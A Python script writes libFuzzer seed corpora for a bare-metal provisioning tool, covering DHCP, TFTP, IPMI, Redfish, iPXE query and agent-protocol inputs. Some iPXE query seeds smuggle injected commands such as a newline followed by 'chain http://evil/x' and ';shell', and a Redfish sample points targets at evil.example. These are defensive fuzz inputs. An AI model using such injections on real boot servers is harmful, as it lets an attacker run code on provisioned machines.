#!/usr/bin/env python3
"""Seed corpora for the fuzz targets from the repository's captured real packets and files.

Writes fuzz/corpus/<target>/seed-* (idempotent: same names, same bytes). libFuzzer keeps what
it finds next to them. Stdlib only.
"""
import glob
import json
import os
import struct
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CORPUS = os.path.join(ROOT, "fuzz", "corpus")


def put(target, name, data):
    d = os.path.join(CORPUS, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path = os.path.join(d, "seed-" + name)
    if not os.path.exists(path) or open(path, "rb").read() != data:
        with open(path, "wb") as f:
            f.write(data)


def files(pattern):
    return sorted(glob.glob(os.path.join(ROOT, pattern)))


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def field(num, payload):
    """A length-delimited protobuf field."""
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def uint(num, n):
    return varint(num << 3) + varint(n)


def main():
    # DHCP: real PXE/iPXE/OVMF/perfdhcp requests.
    for f in files("src/dhcp/testdata/*.bin"):
        put("dhcp", os.path.basename(f), open(f, "rb").read())

    # TFTP: real RRQs from tftp-hpa, atftp, curl, OVMF; as packets and as session scripts.
    for f in files("src/tftp/testdata/*.bin"):
        rrq = open(f, "rb").read()
        put("tftp_packet", os.path.basename(f), rrq)
        header = struct.pack(">H", len(rrq)) + rrq
        for file_len, blk, win in ((4096, 512, 4), (1000, 8, 1), (0, 65464, 64)):
            script = struct.pack(">HHBB", file_len, blk, win, 1) + bytes(64)
            put("tftp_session", f"{os.path.basename(f)}-{file_len}-{blk}-{win}", header + script)

    # IPMI: every datagram of the captured ipmitool <-> ipmi_sim session.
    for f in files("src/ipmi/testdata/*.txt"):
        for line in open(f):
            if " = " not in line or line.startswith("#"):
                continue
            name, value = (x.strip() for x in line.split(" = ", 1))
            try:
                data = bytes.fromhex(value)
            except ValueError:
                continue
            if len(data) >= 4:
                put("ipmi_parse", f"{os.path.basename(f)}-{name}", data)
    for setup in range(8):
        put("ipmi_client", f"genuine-{setup}", bytes([setup]) + bytes(64))
        put("ipmi_client", f"mutated-{setup}", bytes([setup]) + bytes([0, 0, 0xA0, 20, 1, 255]) * 8)

    # Redfish: documents as sushy-emulator serves them, error bodies, BMC URLs.
    docs = {
        "systems": {"Members": [{"@odata.id": "/redfish/v1/Systems/vm-1"}], "Members@odata.count": 1},
        "system": {
            "@odata.id": "/redfish/v1/Systems/vm-1",
            "PowerState": "On",
            "Boot": {"BootSourceOverrideTarget": "None", "BootSourceOverrideEnabled": "Disabled"},
            "Actions": {
                "#ComputerSystem.Reset": {
                    "target": "/redfish/v1/Systems/vm-1/Actions/ComputerSystem.Reset",
                    "ResetType@Redfish.AllowableValues": [
                        "On", "ForceOff", "GracefulShutdown", "GracefulRestart", "ForceRestart", "Nmi", "ForceOn"
                    ],
                }
            },
        },
        "error": {"error": {"code": "Base.1.0.GeneralError", "message": "bad request",
                            "@Message.ExtendedInfo": [{"Message": "The property is read only."}]}},
        "hostile": {"Members": [{"@odata.id": "@evil.example/x"}],
                    "Actions": {"#ComputerSystem.Reset": {"target": "//evil.example/x"}}},
    }
    for name, doc in docs.items():
        put("redfish_json", name, json.dumps(doc))
    for url in ("ipmi://admin:pa%40ssword@10.0.0.5:623", "redfish://root:calvin123@[fd00::5]:8443/x",
                "redfish+http://u@bmc.example"):
        put("redfish_json", "url-" + url.split(":")[0], url)

    # boot.ipxe queries: what iPXE sends, and injection attempts.
    for i, q in enumerate([
        "uuid=11111111-2222-3333-4444-555555555555&mac=52-54-00-99-00-10&arch=x86_64",
        "?uuid=00000000-0000-0000-0000-000000000000&mac=52:54:00:99:00:10&arch=i386",
        "uuid=11111111222233334444555555555555&mac=&arch=",
        "uuid=11111111-2222-3333-4444-555555555555%0achain%20http://evil/x&mac=52-54-00-99-00-10",
        "uuid=11111111-2222-3333-4444-555555555555&mac=52-54-00-99-00-10%0a%23!ipxe&arch=x86_64",
        "uuid=11111111-2222-3333-4444-555555555555&arch=x86_64;shell",
        "uuid=${uuid}&mac=${net0/mac:hexhyp}&arch=${buildarch}",
    ]):
        put("ipxe_query", f"q{i}", q)

    # Config: every config file the project ships.
    for f in files("examples/*.toml") + files("image/*.toml"):
        put("config", os.path.basename(f), open(f, "rb").read())

    # Agent link: Hello, a hardware report, a command, and a kernel command line.
    hello = field(1, "r1-u07") + field(2, "11111111-2222-3333-4444-555555555555") + \
        field(3, "52:54:00:99:00:10") + field(4, "0.1.0")
    put("agent_messages", "hello", field(1, hello))
    report = field(1, field(1, "11111111-2222-3333-4444-555555555555") + field(2, "QEMU")) + \
        field(2, field(1, "QEMU Virtual CPU") + uint(2, 2) + uint(3, 2)) + uint(3, 2 << 30) + \
        field(4, field(1, "vda") + uint(2, 8 << 30)) + field(5, field(1, "eth0") + field(2, "52:54:00:99:00:10"))
    put("agent_messages", "report", field(2, report))
    put("agent_messages", "command", field(1, uint(1, 7) + field(2, uint(1, 1))))
    put("agent_messages", "cmdline",
        "BOOT_IMAGE=vmlinuz initrd=initramfs.cpio.gz console=ttyS0 rackboot.appliance=10.99.0.1:50042 "
        "rackboot.machine=r1-u07\n")

    # Metal agent tunnel: a negotiated exchange (Settings on stream -1, then an answer on
    # stream 1), and the provider's side (NewStream, request, half-close).
    def frames(*fs):
        return b"".join(bytes([len(f)]) + f for f in fs)
    minus1 = uint(1, (1 << 64) - 1)
    settings = minus1 + field(6, field(1, bytes([0, 1])) + uint(2, 65536))
    answer = frames(settings,
                    uint(1, 1) + field(2, b""),
                    uint(1, 1) + field(3, uint(1, 2) + field(2, b"ok")),
                    uint(1, 1) + field(5, field(2, uint(1, 0))))
    put("tunnel_frames", "answer", b"\x01" + answer)
    call = frames(uint(1, 1) + field(2, field(1, "/management.AgentService/Hello") + uint(3, 65536) + uint(4, 1)),
                  uint(1, 1) + field(3, uint(1, 0)),
                  uint(1, 1) + field(5, b""))
    put("tunnel_frames", "call", b"\x01" + call)
    return 0


if __name__ == "__main__":
    sys.exit(main())
